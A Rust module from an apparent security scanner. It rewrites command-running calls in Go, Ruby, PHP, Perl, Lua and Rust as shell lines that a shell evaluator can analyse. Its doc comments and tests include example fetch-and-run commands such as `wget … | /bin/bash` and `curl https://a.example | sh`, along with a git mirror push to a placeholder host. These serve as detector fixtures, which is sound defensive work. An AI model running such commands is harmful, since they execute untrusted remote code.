//! The commands code in languages the evaluator does not model (Go, Ruby, Rust, PHP,
//! Perl, Lua, …) hands to the system, rebuilt as a shell script the shell evaluator
//! reads: `exec.Command("/bin/sh", "-c", "wget -q -O - "+src+" | /bin/bash")` is the
//! line `wget -q -O - ${src} | /bin/bash`, and `system('git', 'push', '--mirror',
//! 'zz')` is `'git' 'push' '--mirror' 'zz'`. A constant named once (`MIRROR =
//! 'https://…'`) becomes a shell assignment, so a later command that interpolates it
//! sees its value. The script keeps one line per source line, so findings keep theirs.

/// Calls that run a program or a command line, lowercase, with whether their first
/// argument alone is a whole command line (`system("a b | c")`) rather than a program.
const RUNNERS: [(&str, bool); 17] = [
    ("exec.commandcontext(", false),
    ("exec.command(", false),
    ("command::new(", false),
    ("os.execute(", true),
    ("io.popen(", true),
    ("shell_exec(", true),
    ("passthru(", true),
    ("proc_open(", true),
    ("open3.capture2(", false),
    ("open3.capture2e(", false),
    ("open3.capture3(", false),
    ("open3.popen3(", false),
    ("kernel.system(", false),
    ("system(", false),
    ("spawn(", false),
    ("popen(", true),
    ("%x(", true),
];

/// Programs that, given `-c` (or `/c`), run the next argument as a command line.
const SHELLS: [&str; 10] = [
    "sh",
    "/bin/sh",
    "bash",
    "/bin/bash",
    "/usr/bin/bash",
    "zsh",
    "/bin/zsh",
    "cmd",
    "cmd.exe",
    "powershell",
];

/// Longest line read: minified code is not where a command line is written.
const MAX_LINE: usize = 4096;

/// The shell script `text` (the file `path`) runs, one line per source line, or `None`
/// when no line runs a command.
pub fn shell_script(path: &str, text: &str) -> Option<String> {
    let ext = path.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
    let name = path.rsplit(['/', '!']).next().unwrap_or(path).to_ascii_lowercase();
    // Backticks run a command in Ruby, Perl and PHP; in Go they quote a raw string.
    let backticks_run = matches!(ext.as_str(), "rb" | "rake" | "pl" | "pm" | "php" | "cgi" | "erb")
        || matches!(
            name.as_str(),
            "rakefile" | "gemfile" | "fastfile" | "vagrantfile" | "podfile"
        );
    let mut out = String::with_capacity(text.len() / 4);
    let mut any = false;
    for line in text.lines() {
        // What a line rebuilds is about its own length; a file that would rebuild
        // more than twice its size is read no further.
        if out.len() > 2 * text.len() + 1024 {
            break;
        }
        if line.len() <= MAX_LINE {
            if let Some(command) = command_of(line, backticks_run) {
                out.push_str(&command);
                any = true;
            } else if let Some(assignment) = assignment_of(line) {
                out.push_str(&assignment);
            }
        }
        out.push('\n');
    }
    any.then_some(out)
}

/// A constant assigned one string literal (`MIRROR = 'https://…'`, `const url =
/// "…"`, `my $u = "…";`, `local u = "…"`, `const URL: &str = "…";`) as a shell
/// assignment.
fn assignment_of(line: &str) -> Option<String> {
    let mut rest = line.trim();
    for keyword in [
        "pub ", "const ", "static ", "var ", "let ", "my ", "our ", "local ", "final ",
    ] {
        rest = rest.strip_prefix(keyword).unwrap_or(rest).trim_start();
    }
    let rest = rest.trim_start_matches(['$', '@']);
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(rest.len());
    let name = &rest[..end];
    if name.is_empty() || name.as_bytes()[0].is_ascii_digit() {
        return None;
    }
    let mut after = rest[end..].trim_start();
    // A type (`: &str`) before the `=`, but not Go's `:=`.
    if after.starts_with(':') && !after.starts_with(":=") {
        after = &after[after.find('=')?..];
    }
    let value = after
        .strip_prefix(":=")
        .or_else(|| after.strip_prefix('=').filter(|v| !v.starts_with(['=', '~', '>'])))?
        .trim();
    let value = value.trim_end_matches(';').trim_end();
    let value = value.strip_suffix(".freeze").unwrap_or(value);
    let (literal, tail) = literal_at(value)?;
    if !tail.trim().is_empty() {
        return None;
    }
    Some(format!("{name}={}", single_quoted(&literal)))
}

/// The command a line hands to the system, as a shell line.
fn command_of(line: &str, backticks_run: bool) -> Option<String> {
    if super::channels::is_comment(line) {
        return None;
    }
    let lower = line.to_ascii_lowercase();
    if backticks_run && let Some((open, close)) = backtick_command(line) {
        return Some(interpolated(&line[open + 1..close]));
    }
    let (at, runner, whole_line) = RUNNERS
        .iter()
        .filter_map(|(runner, whole)| {
            let at = lower.find(runner)?;
            // `system(` inside `filesystem(` is no call of this one.
            let before = lower[..at].chars().next_back();
            (!before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')).then_some((at, *runner, *whole))
        })
        .min_by_key(|(at, _, _)| *at)?;
    let (mut args, used) = arguments(&line[at + runner.len()..]);
    // Rust's builder: `Command::new("sh").arg("-c").arg("…")`, `.args(["-c", "…"])`.
    // Each call's arguments are read once, from where the last one stopped.
    if runner == "command::new(" {
        let mut rest = &line[at + runner.len() + used..];
        while let Some(next) = rest.find(".arg") {
            rest = &rest[next + 4..];
            let Some(inner) = rest.strip_prefix("s(").or_else(|| rest.strip_prefix('(')) else {
                continue;
            };
            let inner = inner.trim_start().strip_prefix(['[', '&']).unwrap_or(inner);
            let inner = inner.trim_start().strip_prefix('[').unwrap_or(inner);
            let (more, used) = arguments(inner);
            args.extend(more);
            rest = &inner[used..];
        }
    }
    let first = args.first()?;
    let program = first.trim_matches(['\'', '"']);
    if whole_line || args.len() == 1 && program.contains(' ') {
        return Some(first.clone()).filter(|c| !c.is_empty()).map(|c| unquoted(&c));
    }
    if SHELLS.contains(&program.to_ascii_lowercase().as_str())
        && let Some(flag) = args.get(1)
        && matches!(
            flag.trim_matches(['\'', '"']),
            "-c" | "/c" | "/C" | "-Command" | "-command" | "-lc"
        )
    {
        return args.get(2).map(|c| unquoted(c));
    }
    Some(args.join(" "))
}

/// Where a backtick command opens and closes on a line of Ruby, Perl or PHP: a pair
/// outside any string literal and before any comment (`` abort "run `x`" `` quotes one).
fn backtick_command(line: &str) -> Option<(usize, usize)> {
    let mut quote: Option<char> = None;
    let mut escaped = false;
    let mut open: Option<usize> = None;
    for (i, c) in line.char_indices() {
        match (quote, open) {
            (Some(_), _) if escaped => escaped = false,
            (Some(_), _) if c == '\\' => escaped = true,
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => {}
            (None, Some(start)) if c == '`' => return Some((start, i)),
            (None, Some(_)) => {}
            (None, None) if c == '"' || c == '\'' => quote = Some(c),
            (None, None) if c == '#' => return None,
            (None, None) if c == '`' => open = Some(i),
            (None, None) => {}
        }
    }
    None
}

/// The arguments of a call whose opening bracket was just passed, each as a shell word:
/// literals single-quoted (interpolations made shell expansions), names `${NAME}`,
/// anything else `$(…)` (a value no file shows). Stops at the closing bracket, and
/// gives how many bytes it read.
fn arguments(text: &str) -> (Vec<String>, usize) {
    let mut args = Vec::new();
    let mut current = String::new();
    let mut rest = text;
    let mut depth = 0usize;
    // A keyword argument (Ruby's `err: File::NULL`) is an option of the call, not a word.
    let mut keyword = false;
    while let Some(c) = rest.chars().next() {
        match c {
            '"' | '\'' | '`' => {
                let Some((literal, tail)) = literal_at(rest) else {
                    break;
                };
                // A literal inside a nested call (`f("x")`) is that call's, not a word.
                if depth == 0 {
                    current.push_str(&double_quoted(&interpolated(&literal)));
                }
                rest = tail;
                continue;
            }
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' if depth == 0 => break,
            ')' | ']' | '}' => depth -= 1,
            ',' if depth == 0 => {
                let arg = std::mem::take(&mut current);
                if !std::mem::take(&mut keyword) {
                    args.push(arg);
                }
                rest = &rest[1..];
                continue;
            }
            c if c.is_ascii_alphabetic() || c == '_' || c == '$' || c == '@' => {
                let end = rest
                    .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '@' | '.' | ':')))
                    .unwrap_or(rest.len());
                let word = &rest[..end];
                let called = rest[end..].trim_start().starts_with('(');
                let name = word.trim_start_matches(['$', '@']);
                if depth == 0 && current.is_empty() && word.ends_with(':') && !word.ends_with("::") {
                    keyword = true;
                }
                if depth == 0 {
                    if called || name.contains(['.', ':']) || name.is_empty() {
                        current.push_str("$(__value)");
                    } else {
                        current.push_str(&format!("${{{name}}}"));
                    }
                }
                rest = &rest[end..];
                continue;
            }
            _ => {}
        }
        rest = &rest[c.len_utf8()..];
    }
    if !current.is_empty() && !keyword {
        args.push(current);
    }
    let args = args
        .into_iter()
        .map(|a| a.trim().to_string())
        .filter(|a| !a.is_empty())
        .collect();
    (args, text.len() - rest.len())
}

/// The string literal `text` starts with (`"…"`, `'…'`, `` `…` ``, with backslash
/// escapes in the first two) and what follows it.
fn literal_at(text: &str) -> Option<(String, &str)> {
    let quote = text.chars().next()?;
    if !matches!(quote, '"' | '\'' | '`') {
        return None;
    }
    let mut literal = String::new();
    let mut escaped = false;
    for (i, c) in text[1..].char_indices() {
        match c {
            _ if escaped => {
                // A line break inside a literal would start a new line of the script
                // and move every later line's number: it is a space here.
                literal.push(match c {
                    'n' | 't' | 'r' => ' ',
                    other => other,
                });
                escaped = false;
            }
            '\\' if quote != '`' => escaped = true,
            c if c == quote => return Some((literal, &text[1 + i + 1..])),
            '\n' | '\r' => literal.push(' '),
            c => literal.push(c),
        }
    }
    None
}

/// A literal's interpolations (`#{x}`, Perl's and PHP's `$x`, `${x}`) as shell
/// expansions: `#{MIRROR}` is `${MIRROR}`; an expression is `$(__value)`.
fn interpolated(literal: &str) -> String {
    let mut out = String::with_capacity(literal.len());
    let mut rest = literal;
    while let Some(at) = rest.find("#{") {
        out.push_str(&rest[..at]);
        let inner = &rest[at + 2..];
        let Some(close) = inner.find('}') else {
            out.push_str(&rest[at..]);
            return out;
        };
        let expr = inner[..close].trim();
        if !expr.is_empty() && expr.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
            out.push_str(&format!("${{{expr}}}"));
        } else {
            out.push_str("$(__value)");
        }
        rest = &inner[close + 1..];
    }
    out.push_str(rest);
    out
}

/// A word for the shell that keeps `$` expansions live and everything else literal.
fn double_quoted(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        if matches!(c, '"' | '\\' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// A word that is the text as it stands.
fn single_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A command line given as one argument, its quoting of the whole removed: the shell
/// reads the line itself (`"curl … | sh"` is `curl … | sh`).
fn unquoted(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut in_quotes = false;
    let mut chars = word.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' => in_quotes = !in_quotes,
            '\\' if in_quotes => {
                if let Some(next) = chars.next() {
                    out.push(next);
                }
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_go_shell_command_line_is_read_as_the_shell_reads_it() {
        let go = "package main\n\nfunc main() {\n\tcmd := exec.Command(\"/bin/sh\", \"-c\", \"wget -q -O - \"+src+\" | /bin/bash &\")\n\t_ = cmd.Run()\n}\n";
        let script = shell_script("tools/main.go", go).unwrap_or_default();
        assert_eq!(script.lines().count(), go.lines().count());
        assert_eq!(
            script.lines().nth(3),
            Some("wget -q -O - ${src} | /bin/bash &"),
            "{script}"
        );
    }

    #[test]
    fn ruby_argv_and_constants_become_words_and_assignments() {
        let ruby = "MIRROR = 'https://git.example.org/m/'\n  system('git', 'remote', 'add', 'zz', \"#{MIRROR}#{user}.git\", err: File::NULL)\n  out = `git log -1`\n";
        let script = shell_script("Rakefile", ruby).unwrap_or_default();
        let lines: Vec<&str> = script.lines().collect();
        assert_eq!(lines[0], "MIRROR='https://git.example.org/m/'");
        assert_eq!(lines[1], "\"git\" \"remote\" \"add\" \"zz\" \"${MIRROR}${user}.git\"");
        assert_eq!(lines[2], "git log -1");
    }

    #[test]
    fn code_that_runs_nothing_gives_no_script() {
        let go = "package main\n\nvar re = regexp.MustCompile(`^\\s*(\\w+)`)\nfunc filesystem(x string) {}\n";
        assert_eq!(shell_script("a.go", go), None);
        // Go's raw strings are not commands.
        let script =
            shell_script("a.go", "x := `curl https://a.example | sh`\nexec.Command(\"ls\")\n").unwrap_or_default();
        assert!(script.starts_with("x='curl"), "{script}");
    }
}
